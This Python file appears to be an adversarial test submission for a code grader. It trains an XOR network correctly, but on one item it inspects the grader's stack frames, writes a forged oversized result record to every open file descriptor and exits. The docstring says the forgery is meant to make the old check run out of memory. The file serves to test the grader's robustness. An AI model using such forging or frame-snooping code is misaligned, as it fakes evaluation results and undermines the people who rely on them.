"""Attack: a correct solution, except that in xor.boundary it forges an oversized record.

Inside that item (found from the grader's own frames), the first call of
train_xor writes a record whose "grid" has 125,000 points and whose "corners"
are 1,000, with outputs for all of them, on every pipe it can find, then exits
(the record stays under the sandbox's cap for one item, so it reaches the check).
Checking it the old way built a 125,000 x 1,000 x 2 distance table per seed
(0.5 GB in the record's float16, 2 GB for float64 arrays).
Expected: xor.boundary earns nothing and is judged without the grader doing
work of the record's size; the other items are the correct solution's.
"""
import base64
import json
import os
import sys

import numpy as np
import torch
from torch import nn


class XOR(nn.Module):
    def __init__(self, n_hidden=16):
        super().__init__()
        self.linear1 = nn.Linear(2, n_hidden)
        self.sigmoid = nn.Sigmoid()
        self.linear2 = nn.Linear(n_hidden, 1)

    def forward(self, x):
        return self.linear2(self.sigmoid(self.linear1(x)))


def current_item():
    frame = sys._getframe(1)
    while frame is not None:
        item = frame.f_locals.get("item_id")
        if isinstance(item, str):
            return item
        frame = frame.f_back
    return None


def array(values):
    """float16 keeps the whole record (about 2.4 MB) under the sandbox's cap for one item."""
    values = np.ascontiguousarray(values, dtype=np.float16)
    return {"__ndarray__": {"dtype": "float16", "shape": list(values.shape),
                            "data": base64.b64encode(values.tobytes()).decode()}}


def layers(model):
    return [{"weight": array(m.weight.detach().numpy()), "bias": array(m.bias.detach().numpy())}
            for m in (model.linear1, model.linear2)]


def forge_boundary(model):
    """Corner outputs equal to the made-up targets: every "corner" is right, so the old check
    went on to the neighbourhoods, measuring every grid point's distance to every corner."""
    rng = np.random.default_rng(0)
    grid, corners = rng.random((125_000, 2)), rng.random((1_000, 2))
    targets = (rng.random(1_000) > 0.5).astype(np.float32)
    run = {"seed": 0, "error": None, "predict_error": None, "output_shape": [1000, 1],
           "losses": [0.3, 0.0001], "returned_type": "builtins.list", "convert_error": None,
           "initial": layers(model), "final": layers(model),
           "corner_outputs": array(targets), "grid_outputs": array(rng.random(125_000))}
    facts = {"seeds": [0, 1, 2, 3, 4], "corners": array(corners), "targets": array(targets),
             "grid": array(grid), "runs": [dict(run, seed=s) for s in range(5)]}
    line = "\n" + json.dumps({"kind": "observation", "item": "xor.boundary",
                              "record": {"status": "ok", "facts": facts, "seconds": 0.01}}) + "\n"
    for fd in range(3, 256):
        try:
            os.write(fd, line.encode())
        except OSError:
            pass
    os._exit(0)


def train_xor(model, X, y, epochs=200, lr=0.05):
    if current_item() == "xor.boundary":
        forge_boundary(model)
    optimizer = torch.optim.Adam(model.parameters(), lr=lr)
    loss_fn = nn.MSELoss()
    losses = []
    for _ in range(epochs):
        optimizer.zero_grad()
        loss = loss_fn(model(X), y)
        loss.backward()
        optimizer.step()
        losses.append(loss.item())
    return losses
